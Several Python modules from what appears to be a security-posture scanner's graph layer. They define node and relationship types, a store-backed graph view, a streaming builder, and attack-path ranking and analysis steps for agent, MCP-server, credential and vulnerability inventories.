        edges: list[UnifiedEdge] = []
        for doc in out_docs:
            edge = edge_from_doc(doc)
            if edge is not None:
                edges.append(edge)
        for doc in in_docs:
            if doc.get("direction") in _BIDI_VALUES:
                edge = edge_from_doc(doc)
                if edge is not None:
                    edges.append(edge)
        if not edges and default is not None:
            return default
        self._cache[node_id] = edges
        if len(self._cache) > self._MAX_ENTRIES:
            self._cache.popitem(last=False)
        return edges

    def __getitem__(self, node_id: str) -> list[UnifiedEdge]:
        return self.get(node_id, [])


class StoreBackedUnifiedGraph:
    """Out-of-core UnifiedGraph twin over a snapshot in the graph store."""

    def __init__(
        self,
        store: Any,
        tenant_id: str = "default",
        snapshot_id: int | None = None,
        chunk_nodes: int | None = None,
        cache_mb: float | None = None,
    ) -> None:
        self.store = store
        self.tenant_id = tenant_id
        if snapshot_id is None:
            snapshot_id = store.current_snapshot_id(tenant_id)
        if snapshot_id is None:
            raise ValueError(f"no graph snapshot for tenant {tenant_id!r}")
        self.snapshot_id = int(snapshot_id)
        info = store.snapshot_info(self.snapshot_id)
        if info is None:
            raise ValueError(f"unknown snapshot {snapshot_id}")
        doc = info.get("document") or {}
        self._node_count = int(info.get("node_count") or 0)
        self._edge_count = int(info.get("edge_count") or 0)
        self.metadata: dict[str, Any] = dict(doc.get("metadata") or {})
        self.analysis_status: dict[str, Any] = dict(doc.get("analysis_status") or {})
        self.attack_paths: list[AttackPath] = _hydrate_attack_paths(doc.get("attack_paths"))
        self.campaigns: list[Campaign] = _hydrate_campaigns(doc.get("campaigns"))
        self._chunk_nodes = int(chunk_nodes or config.GRAPH_CHUNK_NODES)
        self._cache_bytes = float(cache_mb if cache_mb is not None else config.GRAPH_CACHE_MB) * 1e6
        self._compiled: CompiledView | None = None
        self._nodes: _ChunkCachedNodeMap | None = None
        self._adjacency: _AdjacencyView | None = None
        self._edges: _LazyEdgeSeq | None = None

    # ── lazy structural views ───────────────────────────────────────────

    @property
    def compiled(self) -> CompiledView:
        if self._compiled is None:
            self._compiled = compile_from_store(self.store, self.snapshot_id)
        return self._compiled

    @property
    def nodes(self) -> _ChunkCachedNodeMap:
        if self._nodes is None:
            cv = self.compiled
            self._nodes = _ChunkCachedNodeMap(
                self.store,
                self.snapshot_id,
                cv.node_ids,
                cv.node_index,
                self._chunk_nodes,
                self._cache_bytes,
            )
        return self._nodes

    @property
    def edges(self) -> _LazyEdgeSeq:
        if self._edges is None:
            self._edges = _LazyEdgeSeq(self.store, self.snapshot_id, self._edge_count)
        return self._edges

    @property
    def adjacency(self) -> _AdjacencyView:
        if self._adjacency is None:
            self._adjacency = _AdjacencyView(self.store, self.snapshot_id)
        return self._adjacency

    # ── counts ──────────────────────────────────────────────────────────

    @property
    def node_count(self) -> int:
        return self._node_count

    @property
    def edge_count(self) -> int:
        return self._edge_count

    # ── streaming iteration protocol (PR 15) ────────────────────────────

    def iter_nodes(self, entity_type: EntityType | None = None) -> Iterator[UnifiedNode]:
        etype = entity_type.value if entity_type is not None else None
        for doc in self.store.iter_nodes(self.snapshot_id, entity_type=etype):
            node = node_from_doc(doc)
            if node is not None:
                yield node

    def iter_node_ids(self, entity_type: EntityType | None = None) -> Iterator[str]:
        if entity_type is None and self._compiled is not None:
            yield from self._compiled.node_ids
            return
        etype = entity_type.value if entity_type is not None else None
        for nid, meta_etype, _sev, _risk in self.store.iter_node_meta(self.snapshot_id):
            if etype is None or meta_etype == etype:
                yield nid

    def iter_edges(
        self, relationships: Iterable[RelationshipType] | None = None
    ) -> Iterator[UnifiedEdge]:
        rels = None if relationships is None else [r.value for r in relationships]
        for doc in self.store.iter_edges(self.snapshot_id, relationships=rels):
            edge = edge_from_doc(doc)
            if edge is not None:
                yield edge

    # ── queries ─────────────────────────────────────────────────────────

    def get_node(self, node_id: str) -> UnifiedNode | None:
        return self.nodes.get(node_id)

    def stats(self) -> dict[str, Any]:
        return {
            "node_count": self.node_count,
            "edge_count": self.edge_count,
            "attack_path_count": len(self.attack_paths),
            "campaign_count": len(self.campaigns),
            "snapshot_id": self.snapshot_id,
            "store_backed": True,
        }

    # ── traversal: shared verbatim with the in-RAM container ────────────
    # These functions only touch self.compiled (+ self.nodes for search),
    # so the store-backed view reuses them unchanged — same kernels, same
    # dispatch ladder, same plan:reuse telemetry.

    bfs = UnifiedGraph.bfs
    neighbors = UnifiedGraph.neighbors
    search_nodes = UnifiedGraph.search_nodes
    nodes_matching = UnifiedGraph.nodes_matching
    multi_source_distances = UnifiedGraph.multi_source_distances
    multi_source_distances_batched = UnifiedGraph.multi_source_distances_batched
    packed_target_reach_batched = UnifiedGraph.packed_target_reach_batched
    shortest_path = UnifiedGraph.shortest_path
    degree_centrality = UnifiedGraph.degree_centrality


def _hydrate_attack_paths(raw_paths: Any) -> list[AttackPath]:
    out: list[AttackPath] = []
    for raw in raw_paths or []:
        out.append(
            AttackPath(
                id=str(raw.get("id")),
                hops=list(raw.get("hops") or []),
                relationships=list(raw.get("relationships") or []),
                composite_risk=float(raw.get("composite_risk") or 0.0),
                summary=str(raw.get("summary") or ""),
                entry=str(raw.get("entry") or ""),
                target=str(raw.get("target") or ""),
                source=str(raw.get("source") or ""),
                techniques=list(raw.get("techniques") or []),
                campaign_id=raw.get("campaign_id"),
            )
        )
    return out


def _hydrate_campaigns(raw_campaigns: Any) -> list[Campaign]:
    out: list[Campaign] = []
    for raw in raw_campaigns or []:
        out.append(
            Campaign(
                id=str(raw.get("id")),
                crown_jewel=str(raw.get("crown_jewel") or ""),
                path_ids=list(raw.get("path_ids") or []),
                composite_risk=float(raw.get("composite_risk") or 0.0),
                summary=str(raw.get("summary") or ""),
            )
        )
    return out
