"""Unified graph — the convergence point of every scan surface.

Reference parity: src/agent_bom/graph/ (types.py, container.py:235
UnifiedGraph, builder.py:51, attack_path_fusion.py:194,
dependency_reach.py:109, rollup.py). The trn architecture difference:
the container keeps a *compiled array view* (int32 edge lists per
relationship mask) always in sync, so the blastcore graph kernels
(engine/graph_kernels.py) consume it without a conversion pass, and
every traversal is a batched frontier sweep instead of a per-source
Python loop.
"""

from agent_bom_trn.graph.types import EntityType, NodeStatus, RelationshipType  # noqa: F401
from agent_bom_trn.graph.container import (  # noqa: F401
    AttackPath,
    UnifiedEdge,
    UnifiedGraph,
    UnifiedNode,
)
