"""Graph entity / relationship taxonomies (reference: src/agent_bom/graph/types.py:8,105+).

Enum values are the wire contract — graph JSON, the REST API, and the UI
all key on these strings, so the sets match the reference exactly.
"""

from __future__ import annotations

from enum import Enum


class EntityType(str, Enum):
    """Node entity types, mapped to OCSF classes."""

    AGENT = "agent"
    SERVER = "server"
    PACKAGE = "package"
    TOOL = "tool"
    TOOL_CALL = "tool_call"
    MODEL = "model"
    DATASET = "dataset"
    FRAMEWORK = "framework"
    CONTAINER = "container"
    CLOUD_RESOURCE = "cloud_resource"
    RESOURCE = "resource"
    SOURCE_FILE = "source_file"
    CODE_MODULE = "code_module"
    CONFIG_FILE = "config_file"
    EXTERNAL_IMPORT = "external_import"
    CI_JOB = "ci_job"
    DIRECTORY = "directory"

    VULNERABILITY = "vulnerability"
    MISCONFIGURATION = "misconfiguration"

    CREDENTIAL = "credential"
    CREDENTIAL_REF = "credential_ref"

    ORG = "org"
    ACCOUNT = "account"
    USER = "user"
    GROUP = "group"
    ROLE = "role"
    POLICY = "policy"
    SERVICE_ACCOUNT = "service_account"
    SERVICE_PRINCIPAL = "service_principal"
    FEDERATED_IDENTITY = "federated_identity"

    MANAGED_IDENTITY = "managed_identity"
    ACCESS_GRANT = "access_grant"
    ACCESS_POLICY = "access_policy"
    BLUEPRINT = "blueprint"

    DRIFT_INCIDENT = "drift_incident"

    DATA_STORE = "data_store"
    API_GATEWAY = "api_gateway"
    APPLICATION = "application"

    PROVIDER = "provider"
    ENVIRONMENT = "environment"
    FLEET = "fleet"
    CLUSTER = "cluster"


class RelationshipType(str, Enum):
    """Edge relationship types across all graph surfaces."""

    HOSTS = "hosts"
    USES = "uses"
    USES_FRAMEWORK = "uses_framework"
    DEPENDS_ON = "depends_on"
    PROVIDES_TOOL = "provides_tool"
    EXPOSES_CRED = "exposes_cred"
    REACHES_TOOL = "reaches_tool"
    SERVES_MODEL = "serves_model"
    CONTAINS = "contains"
    IMPORTS = "imports"
    DEFINES = "defines"
    RUNS = "runs"
    CONFIGURES = "configures"
    OBSERVES = "observes"

    AFFECTS = "affects"
    VULNERABLE_TO = "vulnerable_to"
    EXPLOITABLE_VIA = "exploitable_via"
    REMEDIATES = "remediates"
    TRIGGERS = "triggers"

    SHARES_SERVER = "shares_server"
    SHARES_CRED = "shares_cred"
    LATERAL_PATH = "lateral_path"

    MANAGES = "manages"
    OWNS = "owns"
    PART_OF = "part_of"
    MEMBER_OF = "member_of"
    ASSUMES = "assumes"
    TRUSTS = "trusts"
    ATTACHED = "attached"
    INHERITS = "inherits"
    CAN_ACCESS = "can_access"
    CROSS_ACCOUNT_TRUST = "cross_account_trust"

    AUTHENTICATES_AS = "authenticates_as"
    SCOPED_TO = "scoped_to"
    GOVERNS = "governs"
    EXHIBITS_DRIFT = "exhibits_drift"

    EXPOSED_TO = "exposed_to"
    STORES = "stores"
    HAS_PERMISSION = "has_permission"
    PROTECTS = "protects"

    ACTED_AS = "acted_as"
    INVOKED = "invoked"
    CALLED = "called"
    USED_CREDENTIAL = "used_credential"
    ACCESSED = "accessed"
    DELEGATED_TO = "delegated_to"

    CORRELATES_WITH = "correlates_with"
    POSSIBLY_CORRELATES_WITH = "possibly_correlates_with"

    BELONGS_TO = "belongs_to"

    CALLS = "calls"


class NodeStatus(str, Enum):
    ACTIVE = "active"
    INACTIVE = "inactive"
    VULNERABLE = "vulnerable"
    REMEDIATED = "remediated"


class GraphSemanticLayer(str, Enum):
    USER = "user"
    IDENTITY = "identity"
    APP = "app"
    API_GATEWAY = "api_gateway"
    ORCHESTRATION = "orchestration"
    MCP_SERVER = "mcp_server"
    TOOL = "tool"
    PACKAGE = "package"
    RUNTIME_EVIDENCE = "runtime_evidence"
    ASSET = "asset"
    INFRA = "infra"
    FINDING = "finding"
    CODE = "code"
    CI = "ci"


# Stable integer codes for the compiled array view (engine kernels mask
# edges by relationship). Order is append-only: codes are part of the
# compiled-graph cache identity.
RELATIONSHIP_CODES: dict[RelationshipType, int] = {
    rel: i for i, rel in enumerate(RelationshipType)
}
ENTITY_CODES: dict[EntityType, int] = {et: i for i, et in enumerate(EntityType)}
