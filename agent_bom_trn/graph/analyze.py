"""One-call graph analysis pipeline: build → overlays → fusion → reach.

The API scan path's "analysis" step (reference: api/pipeline.py:1460-1483)
— build the unified graph from the report, apply attack-path fusion,
compute dependency reach, and join reachability back onto blast radii.
"""

from __future__ import annotations

from typing import Any

from agent_bom_trn.graph.attack_path_fusion import apply_attack_path_fusion
from agent_bom_trn.graph.builder import (
    build_unified_graph_auto,
    build_unified_graph_from_report,
)
from agent_bom_trn.graph.container import UnifiedGraph
from agent_bom_trn.graph.dependency_reach import (
    apply_dependency_reachability_to_blast_radii,
    compute_dependency_reach,
)


def analyze_report(report, report_json: dict[str, Any] | None = None) -> UnifiedGraph:
    """Full analysis pass; mutates report.blast_radii reach fields."""
    if report_json is not None:
        graph = build_unified_graph_from_report(report_json)
    else:
        # Threshold dispatcher: zero-serialization in-memory build below
        # GRAPH_INMEM_BUILD_AGENTS (no report→JSON round-trip), streamed
        # store build above it when a store is wired in.
        graph, _snapshot_id = build_unified_graph_auto(report)
    apply_attack_path_fusion(graph)
    reach = compute_dependency_reach(graph)
    apply_dependency_reachability_to_blast_radii(report.blast_radii, graph, reach)
    return graph
