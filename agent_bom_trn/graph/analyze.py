"""One-call graph analysis pipeline: build → overlays → fusion → reach.

The API scan path's "analysis" step (reference: api/pipeline.py:1460-1483)
— build the unified graph from the report, apply attack-path fusion,
compute dependency reach, and join reachability back onto blast radii.
"""

from __future__ import annotations

from typing import Any

from agent_bom_trn.graph.attack_path_fusion import apply_attack_path_fusion
from agent_bom_trn.graph.builder import build_unified_graph_from_report
from agent_bom_trn.graph.container import UnifiedGraph
from agent_bom_trn.graph.dependency_reach import (
    apply_dependency_reachability_to_blast_radii,
    compute_dependency_reach,
)


def analyze_report(report, report_json: dict[str, Any] | None = None) -> UnifiedGraph:
    """Full analysis pass; mutates report.blast_radii reach fields."""
    if report_json is None:
        from agent_bom_trn.output.json_fmt import to_json  # noqa: PLC0415

        report_json = to_json(report)
    graph = build_unified_graph_from_report(report_json)
    apply_attack_path_fusion(graph)
    reach = compute_dependency_reach(graph)
    apply_dependency_reachability_to_blast_radii(report.blast_radii, graph, reach)
    return graph
