"""Honest analysis status for bounded graph analyzers.

(reference: src/agent_bom/graph/analysis.py — GraphAnalysisState /
GraphAnalysisStatus: capped analyses report SKIPPED/LIMITED, never a
silent empty result.)
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Any


class GraphAnalysisState(str, Enum):
    COMPLETE = "complete"
    LIMITED = "limited"
    SKIPPED = "skipped"
    FAILED = "failed"


@dataclass(slots=True)
class GraphAnalysisStatus:
    status: GraphAnalysisState
    reason_codes: tuple[str, ...] = ()
    limits: dict[str, Any] = field(default_factory=dict)
    observed: dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> dict[str, Any]:
        return {
            "status": self.status.value,
            "reason_codes": list(self.reason_codes),
            "limits": self.limits,
            "observed": self.observed,
        }
