"""Path ranking signals: environment weights + tool capability boosts.

(reference: src/agent_bom/graph/path_ranking.py — path_rank_tuple :66,
environment_weight, tool_capability_boost.)
"""

from __future__ import annotations

from agent_bom_trn.constants import SEARCH_CAPABILITY_KEYWORDS, SHELL_CAPABILITY_KEYWORDS
from agent_bom_trn.graph.container import UnifiedNode

_ENV_WEIGHTS = {
    "prod": 1.5,
    "production": 1.5,
    "staging": 1.2,
    "dev": 1.0,
    "development": 1.0,
    "test": 0.9,
    "sandbox": 0.8,
}


def environment_weight(node: UnifiedNode) -> float:
    env = (node.dimensions.environment or node.attributes.get("environment") or "").lower()
    return _ENV_WEIGHTS.get(env, 1.0)


def tool_capability_boost(node: UnifiedNode) -> float:
    """Capability risk of a TOOL node inferred from its name/description."""
    if node.entity_type.value != "tool":
        return 0.0
    text = f"{node.label} {node.attributes.get('description') or ''}".lower()
    boost = 0.0
    if any(k in text for k in SHELL_CAPABILITY_KEYWORDS):
        boost += 6.0
    if any(k in text for k in SEARCH_CAPABILITY_KEYWORDS):
        boost += 2.0
    if "write" in text or "delete" in text or "upsert" in text:
        boost += 2.0
    return boost


def path_rank_tuple(composite_risk: float, hops: int, path_id: str) -> tuple:
    """Deterministic ranking key: risk desc, shorter chains first, id tiebreak."""
    return (-composite_risk, hops, path_id)
