"""StreamingGraphBuilder — chunked report→store graph build (PR 15).

The out-of-core twin of ``graph/builder.py``: consumes agents and blast
radii in bounded slices, interns node ids into a compact index, appends
typed edges into growable int arrays (the CSR seed), and writes each
committed chunk of node/edge documents through to the graph store —
never materializing a full ``UnifiedGraph`` object graph. The in-RAM
builders remain the differential twins: on the same estate the streamed
snapshot's node/edge sets are byte-identical (modulo build timestamps)
to ``build_unified_graph_from_report_objects`` — asserted on both store
backends in tests/test_out_of_core.py.

Merge semantics are the container's, replicated on loose node/edge
objects (``_merge_node``/``_merge_edge`` mirror ``UnifiedGraph.add_node``
/ ``add_edge``; keep them in lockstep). The cross-chunk idempotency fast
path keys every interned node (and every edge) to the content of its
**last merged occurrence**: a re-occurrence with identical content is a
guaranteed no-op merge and is skipped without touching the store; only
content that actually changed pays the read-back-and-merge.

Call order contract: for each chunk, ``add_blast_radii(chunk)`` BEFORE
``add_agents(chunk)`` (a chunk's package walk needs its vulnerability
rows, exactly as the in-RAM builder sees all blast radii first), then
``finalize()`` once.
"""

from __future__ import annotations

import json
from array import array
from typing import Any, Callable, Iterable

from agent_bom_trn import config
from agent_bom_trn.engine.telemetry import record_dispatch
from agent_bom_trn.graph.builder import (
    _MAX_EXPLOITABLE_VIA_CREDS,
    _MAX_EXPLOITABLE_VIA_TOOLS,
    _MAX_PAIRWISE_SHARED_AGENTS,
    _SEV_RISK,
    _gc_paused,
    _node_id,
    _vuln_row_from_blast_radius,
)
from agent_bom_trn.graph.container import (
    NodeDimensions,
    UnifiedEdge,
    UnifiedNode,
    node_from_doc,
)
from agent_bom_trn.graph.types import (
    RELATIONSHIP_CODES,
    EntityType,
    NodeStatus,
    RelationshipType,
)
from agent_bom_trn.obs.trace import span


def _merge_node(existing: UnifiedNode, node: UnifiedNode) -> None:
    """Mirror of UnifiedGraph.add_node's merge branch on loose objects."""
    existing.risk_score = max(existing.risk_score, node.risk_score)
    if node.severity not in ("", "none") and existing.severity in ("", "none"):
        existing.severity = node.severity
    if node.status == NodeStatus.VULNERABLE:
        existing.status = NodeStatus.VULNERABLE
    existing.attributes.update(node.attributes)
    existing.dimensions = existing.dimensions.merge(node.dimensions)
    for fid in node.finding_ids:
        if fid not in existing.finding_ids:
            existing.finding_ids.append(fid)
    existing.last_seen = node.last_seen or existing.last_seen
    if node.label and existing.label == existing.id:
        existing.label = node.label


def _merge_edge(existing: UnifiedEdge, edge: UnifiedEdge) -> None:
    """Mirror of UnifiedGraph.add_edge's merge branch on loose objects."""
    existing.evidence.update(edge.evidence)
    existing.weight = max(existing.weight, edge.weight)
    existing.confidence = max(existing.confidence, edge.confidence)
    existing.last_seen = edge.last_seen or existing.last_seen


def _node_content_key(node: UnifiedNode) -> int:
    """Content hash minus timestamps — equal key ⇒ no-op merge."""
    return hash(
        json.dumps(
            (
                node.label,
                node.status.value,
                node.risk_score,
                node.severity,
                node.attributes,
                node.dimensions.to_dict(),
                node.finding_ids,
            ),
            sort_keys=True,
            default=str,
        )
    )


def _edge_content_key(edge: UnifiedEdge) -> int:
    return hash(
        json.dumps(
            (edge.direction, edge.weight, edge.traversable, edge.confidence, edge.evidence),
            sort_keys=True,
            default=str,
        )
    )


class StreamingGraphBuilder:
    """Chunked agents/blast-radii → store-resident graph snapshot."""

    def __init__(
        self,
        store: Any,
        scan_id: str,
        tenant_id: str = "default",
        job_id: str | None = None,
        chunk_nodes: int | None = None,
        on_chunk: Callable[["StreamingGraphBuilder"], None] | None = None,
    ) -> None:
        self.store = store
        self.tenant_id = tenant_id
        self.chunk_nodes = int(chunk_nodes or config.GRAPH_CHUNK_NODES)
        self.on_chunk = on_chunk
        self.metadata: dict[str, Any] = {"scan_id": scan_id}
        self.snapshot_id = store.begin_streamed_snapshot(
            scan_id, tenant_id=tenant_id, job_id=job_id
        )
        # Node interning: id → dense index; _node_key[i] is the content
        # key of index i's last merged occurrence (idempotency fast path).
        self._intern: dict[str, int] = {}
        self._node_key: list[int] = []
        self._pending_nodes: dict[str, UnifiedNode] = {}
        # Edge dedup: packed (src_idx, dst_idx, rel_code) int → content
        # key — no edge-id strings retained for the common case. Edges
        # whose endpoints were never interned (CompiledView would skip
        # them too, but the container still stores them) fall back to an
        # id-keyed map.
        self._edge_seen: dict[int, int] = {}
        self._edge_seen_by_id: dict[str, int] = {}
        self._pending_edges: dict[str, UnifiedEdge] = {}
        # Growable CSR seed (traversable rows only; bidirectional edges
        # append the reversed row — mirrors CompiledView).
        self.csr_src = array("i")
        self.csr_dst = array("i")
        self.csr_rel = array("i")
        # Build-long accumulators (bounded: unique vulns / shared-server
        # buckets / unique package contents — not per-occurrence).
        self._vuln_rows: dict[str, dict[str, Any]] = {}
        self._seen_packages: dict[str, tuple] = {}
        self._server_agents: dict[str, list[str]] = {}
        self.chunks_flushed = 0
        self._interned_since_flush = 0
        self._finalized = False

    # ── counts ──────────────────────────────────────────────────────────

    @property
    def node_count(self) -> int:
        return len(self._intern)

    @property
    def edge_count(self) -> int:
        return len(self._edge_seen) + len(self._edge_seen_by_id)

    # ── core add/merge machinery ────────────────────────────────────────

    def add_node(self, node: UnifiedNode) -> None:
        idx = self._intern.get(node.id)
        if idx is None:
            self._intern[node.id] = len(self._node_key)
            self._node_key.append(_node_content_key(node))
            self._pending_nodes[node.id] = node
            self._interned_since_flush += 1
            self._maybe_flush()
            return
        key = _node_content_key(node)
        if key == self._node_key[idx]:
            return  # identical to the last merged occurrence — no-op merge
        self._node_key[idx] = key
        pending = self._pending_nodes.get(node.id)
        if pending is not None:
            _merge_node(pending, node)
            return
        docs = self.store.fetch_node_docs(self.snapshot_id, [node.id])
        existing = node_from_doc(docs[node.id]) if node.id in docs else None
        if existing is None:
            existing = node
        else:
            _merge_node(existing, node)
        self._pending_nodes[node.id] = existing

    def add_edge(self, edge: UnifiedEdge) -> None:
        si = self._intern.get(edge.source)
        ti = self._intern.get(edge.target)
        if si is None or ti is None:
            self._add_edge_by_id(edge)
            return
        packed = ((si << 26) | ti) << 6 | RELATIONSHIP_CODES[edge.relationship]
        seen = self._edge_seen.get(packed)
        key = _edge_content_key(edge)
        if seen is None:
            self._edge_seen[packed] = key
            self._pending_edges[edge.id] = edge
            if edge.traversable:
                code = RELATIONSHIP_CODES[edge.relationship]
                self.csr_src.append(si)
                self.csr_dst.append(ti)
                self.csr_rel.append(code)
                if edge.is_bidirectional:
                    self.csr_src.append(ti)
                    self.csr_dst.append(si)
                    self.csr_rel.append(code)
            self._maybe_flush()
            return
        if seen == key:
            return
        self._edge_seen[packed] = key
        self._merge_edge_in(edge)

    def _add_edge_by_id(self, edge: UnifiedEdge) -> None:
        seen = self._edge_seen_by_id.get(edge.id)
        key = _edge_content_key(edge)
        if seen is None:
            self._edge_seen_by_id[edge.id] = key
            self._pending_edges[edge.id] = edge
            self._maybe_flush()
            return
        if seen == key:
            return
        self._edge_seen_by_id[edge.id] = key
        self._merge_edge_in(edge)

    def _merge_edge_in(self, edge: UnifiedEdge) -> None:
        pending = self._pending_edges.get(edge.id)
        if pending is not None:
            _merge_edge(pending, edge)
            return
        # Cross-chunk merge (rare — only edges whose content genuinely
        # changed after their chunk flushed, e.g. SHARES_SERVER evidence
        # from a second shared server): read the flushed document back.
        from agent_bom_trn.graph.container import edge_from_doc  # noqa: PLC0415

        out_docs, _ = self.store.fetch_edges_touching(self.snapshot_id, edge.source)
        existing = None
        for doc in out_docs:
            if doc.get("id") == edge.id:
                existing = edge_from_doc(doc)
                break
        if existing is None:
            existing = edge
        else:
            _merge_edge(existing, edge)
        self._pending_edges[edge.id] = existing

    def _set_node_attribute(self, node_id: str, attr: str, value: Any) -> None:
        """Direct attribute poke, bypassing merge (the lateral-hub path
        mirrors the in-RAM builder's ``graph.nodes[id].attributes[...] =``)."""
        pending = self._pending_nodes.get(node_id)
        if pending is not None:
            pending.attributes[attr] = value
            return
        docs = self.store.fetch_node_docs(self.snapshot_id, [node_id])
        doc = docs.get(node_id)
        if doc is None:
            return
        node = node_from_doc(doc)
        if node is None:
            return
        node.attributes[attr] = value
        self._pending_nodes[node_id] = node

    # ── chunk flush ─────────────────────────────────────────────────────

    def _maybe_flush(self) -> None:
        if (
            len(self._pending_nodes) >= self.chunk_nodes
            or len(self._pending_edges) >= 4 * self.chunk_nodes
        ):
            self.flush()

    def flush(self) -> None:
        """Write pending node/edge documents through to the store."""
        if not self._pending_nodes and not self._pending_edges:
            return
        if self._pending_nodes:
            self.store.append_snapshot_nodes(
                self.snapshot_id, [n.to_dict() for n in self._pending_nodes.values()]
            )
            self._pending_nodes.clear()
        if self._pending_edges:
            self.store.append_snapshot_edges(
                self.snapshot_id, [e.to_dict() for e in self._pending_edges.values()]
            )
            self._pending_edges.clear()
        self.chunks_flushed += 1
        record_dispatch("graph_build", "chunks")
        if self._interned_since_flush:
            record_dispatch("graph_build", "interned_nodes", self._interned_since_flush)
            self._interned_since_flush = 0
        if self.on_chunk is not None:
            self.on_chunk(self)

    # ── report walk (object twin of graph/builder.py) ───────────────────

    def add_blast_radii(self, blast_radii: Iterable[Any]) -> None:
        """Register a chunk's blast radii (first row per vulnerability
        wins, matching the in-RAM builders' setdefault over the full
        report). Must run before the same chunk's :meth:`add_agents`."""
        for br in blast_radii:
            vid, row = _vuln_row_from_blast_radius(br)
            self._vuln_rows.setdefault(vid, row)

    def add_agents(self, agents: Iterable[Any]) -> None:
        """Walk a chunk of Agent objects — same order and semantics as
        ``_build_from_report_objects``'s inventory loop."""
        with _gc_paused():
            for agent in agents:
                self._walk_agent(agent)

    def _walk_agent(self, agent: Any) -> None:
        agent_id = _node_id("agent", agent.canonical_id or agent.name or "")
        self.add_node(
            UnifiedNode(
                id=agent_id,
                entity_type=EntityType.AGENT,
                label=str(agent.name or ""),
                dimensions=NodeDimensions(agent_type=str(agent.agent_type.value or "")),
                attributes={
                    "config_path": agent.config_path,
                    "source": agent.source,
                    "status": agent.status.value,
                },
            )
        )
        for server in agent.mcp_servers:
            server_id = _node_id("server", server.canonical_id or server.name or "")
            transport = server.transport.value
            self.add_node(
                UnifiedNode(
                    id=server_id,
                    entity_type=EntityType.SERVER,
                    label=str(server.name or ""),
                    dimensions=NodeDimensions(surface=str(server.surface.value or "")),
                    attributes={
                        "transport": transport,
                        "auth_mode": server.auth_mode,
                        "registry_id": server.registry_id,
                        "security_blocked": server.security_blocked,
                        "internet_exposed": transport in ("sse", "streamable-http")
                        and bool(server.url),
                    },
                )
            )
            self.add_edge(
                UnifiedEdge(source=agent_id, target=server_id, relationship=RelationshipType.USES)
            )
            bucket = self._server_agents.setdefault(server_id, [])
            if agent_id not in bucket:
                bucket.append(agent_id)
            for tool in server.tools:
                tool_id = _node_id("tool", server.name or "", tool.name or "")
                self.add_node(
                    UnifiedNode(
                        id=tool_id,
                        entity_type=EntityType.TOOL,
                        label=str(tool.name or ""),
                        risk_score=float(tool.risk_score or 0.0),
                        attributes={"description": tool.description},
                    )
                )
                self.add_edge(
                    UnifiedEdge(
                        source=server_id,
                        target=tool_id,
                        relationship=RelationshipType.PROVIDES_TOOL,
                    )
                )
            for cred in server.credential_names:
                cred_id = _node_id("credential", server.name or "", cred)
                self.add_node(
                    UnifiedNode(
                        id=cred_id,
                        entity_type=EntityType.CREDENTIAL,
                        label=str(cred),
                        risk_score=5.0,
                    )
                )
                self.add_edge(
                    UnifiedEdge(
                        source=server_id,
                        target=cred_id,
                        relationship=RelationshipType.EXPOSES_CRED,
                    )
                )
                for tool in server.tools:
                    tool_id = _node_id("tool", server.name or "", tool.name or "")
                    self.add_edge(
                        UnifiedEdge(
                            source=cred_id,
                            target=tool_id,
                            relationship=RelationshipType.REACHES_TOOL,
                        )
                    )
            for pkg in server.packages:
                pkg_id = _node_id(
                    "package", pkg.ecosystem or "", pkg.name or "", pkg.version or ""
                )
                vuln_ids = [v.id for v in pkg.vulnerabilities]
                content = (
                    pkg.ecosystem,
                    pkg.name,
                    pkg.version,
                    pkg.purl,
                    pkg.is_direct,
                    pkg.is_malicious,
                    tuple(vuln_ids),
                )
                if self._seen_packages.get(pkg_id) != content:
                    self.add_node(
                        UnifiedNode(
                            id=pkg_id,
                            entity_type=EntityType.PACKAGE,
                            label=f"{pkg.name}@{pkg.version}",
                            status=NodeStatus.VULNERABLE if vuln_ids else NodeStatus.ACTIVE,
                            dimensions=NodeDimensions(ecosystem=str(pkg.ecosystem or "")),
                            attributes={
                                "purl": pkg.purl,
                                "is_direct": pkg.is_direct,
                                "is_malicious": pkg.is_malicious,
                            },
                        )
                    )
                    for vid in vuln_ids:
                        self._add_vuln_node(vid, pkg_id, self._vuln_rows.get(vid))
                    self._seen_packages[pkg_id] = content
                self.add_edge(
                    UnifiedEdge(
                        source=server_id, target=pkg_id, relationship=RelationshipType.DEPENDS_ON
                    )
                )

    def _add_vuln_node(self, vuln_id: str, pkg_id: str, row: dict[str, Any] | None) -> None:
        nid = _node_id("vuln", vuln_id)
        severity = str((row or {}).get("severity") or "unknown")
        risk = float((row or {}).get("risk_score") or _SEV_RISK.get(severity, 1.0))
        self.add_node(
            UnifiedNode(
                id=nid,
                entity_type=EntityType.VULNERABILITY,
                label=vuln_id,
                severity=severity,
                risk_score=risk,
                status=NodeStatus.ACTIVE,
                attributes={
                    "is_kev": (row or {}).get("is_kev"),
                    "epss_score": (row or {}).get("epss_score"),
                    "cvss_score": (row or {}).get("cvss_score"),
                    "fixed_version": (row or {}).get("fixed_version"),
                    "exploit_likelihood": (row or {}).get("exploit_likelihood"),
                },
            )
        )
        self.add_edge(
            UnifiedEdge(
                source=pkg_id,
                target=nid,
                relationship=RelationshipType.VULNERABLE_TO,
                weight=min(risk, 10.0),
            )
        )

    def _add_exploitable_via(self, vuln_id: str, row: dict[str, Any]) -> None:
        nid = _node_id("vuln", vuln_id)
        if nid not in self._intern:
            return
        servers = row.get("affected_servers") or []
        added_tools = 0
        for tool_name in row.get("exposed_tools") or []:
            if added_tools >= _MAX_EXPLOITABLE_VIA_TOOLS:
                break
            for server_name in servers[:3]:
                tool_id = _node_id("tool", server_name, tool_name)
                if tool_id in self._intern:
                    self.add_edge(
                        UnifiedEdge(
                            source=nid,
                            target=tool_id,
                            relationship=RelationshipType.EXPLOITABLE_VIA,
                        )
                    )
                    added_tools += 1
                    break
        added_creds = 0
        for cred in row.get("exposed_credentials") or []:
            if added_creds >= _MAX_EXPLOITABLE_VIA_CREDS:
                break
            for server_name in servers:
                if added_creds >= _MAX_EXPLOITABLE_VIA_CREDS:
                    break
                cred_id = _node_id("credential", server_name, cred)
                if cred_id in self._intern:
                    self.add_edge(
                        UnifiedEdge(
                            source=nid,
                            target=cred_id,
                            relationship=RelationshipType.EXPLOITABLE_VIA,
                        )
                    )
                    added_creds += 1

    def _emit_lateral_edges(self) -> None:
        for server_id, agent_ids in self._server_agents.items():
            if len(agent_ids) < 2 or len(agent_ids) > _MAX_PAIRWISE_SHARED_AGENTS:
                if (
                    len(agent_ids) > _MAX_PAIRWISE_SHARED_AGENTS
                    and server_id in self._intern
                ):
                    self._set_node_attribute(
